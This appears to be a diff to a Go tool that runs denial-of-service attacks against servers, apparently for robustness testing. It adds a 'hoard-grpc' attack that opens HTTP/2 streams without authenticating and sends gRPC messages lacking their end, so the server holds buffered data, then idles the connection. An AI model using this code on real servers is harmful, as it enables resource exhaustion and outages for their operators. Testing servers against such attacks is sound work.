@@ -2,6 +2,7 @@ package main
 
 import (
 	"context"
+	"encoding/binary"
 	"io"
 	"net"
 	"time"
@@ -28,6 +29,7 @@ func attacks() map[string]func(ctx context.Context, a *attacker, worker int) {
 		"idle-tls":       hold(http, "http/1.1", idle),
 		"idle-http2":     hold(http, "h2", idleHTTP2),
 		"idle-grpc":      hold(grpc, "h2", idleHTTP2),
+		"hoard-grpc":     hold(grpc, "h2", hoard),
 		"handshakes": func(ctx context.Context, a *attacker, _ int) {
 			again(ctx, 0, func() {
 				a.tried.Add(1)
@@ -86,6 +88,28 @@ func idleHTTP2(ctx context.Context, c net.Conn) error {
 		return err
 	}
 	if err := http2.NewFramer(c, nil).WriteSettings(); err != nil {
+		return err
+	}
+	return idle(ctx, c)
+}
+
+// hoard sends messages of gRPC that lack their end, as much of them as is taken from somebody who has not authenticated.
+func hoard(ctx context.Context, c net.Conn) error {
+	s := newSession(c, true)
+	if err := s.greet(); err != nil {
+		return err
+	}
+	message := make([]byte, 14<<10)
+	binary.BigEndian.PutUint32(message[1:], 60<<10)
+	for range 6 {
+		if err := s.open(false, s.headers(random())); err != nil {
+			return err
+		}
+		if err := s.framer.WriteData(s.stream, false, message); err != nil {
+			return err
+		}
+	}
+	if err := s.out.Flush(); err != nil {
 		return err
 	}
 	return idle(ctx, c)
